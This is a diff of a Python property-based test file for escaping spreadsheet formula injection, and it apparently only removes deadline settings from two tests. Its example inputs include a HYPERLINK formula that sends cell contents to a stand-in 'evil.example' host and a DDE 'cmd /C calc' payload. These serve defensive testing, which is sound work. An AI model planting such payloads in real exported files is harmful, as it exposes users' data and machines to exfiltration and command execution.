@@ -38,7 +38,7 @@ def unmarked(cell: str) -> str:
     return cell[1:] if cell.startswith(tuple(f"'{one}" for one in FORMULAS)) else cell
 
 
-@settings(max_examples=300, deadline=None)
+@settings(max_examples=300)
 @given(words=said, value=said)
 @example(words='=HYPERLINK("http://evil.example?"&A1)', value="@SUM(1+1)*cmd|' /C calc'!A0")
 @example(words="a\r\n=1+1", value='"\n=1+1\n"')
@@ -53,7 +53,7 @@ def test_any_words_stand_in_one_cell_and_none_begins_a_formula(words: str, value
     assert answered in (value, f"'{value}")
 
 
-@settings(max_examples=40, deadline=None)
+@settings(max_examples=40)
 @given(st.lists(answers(), max_size=10), st.randoms(use_true_random=False))
 def test_whatever_order_they_came_in_the_oldest_stands_first(
     given: list[Answer], order: object
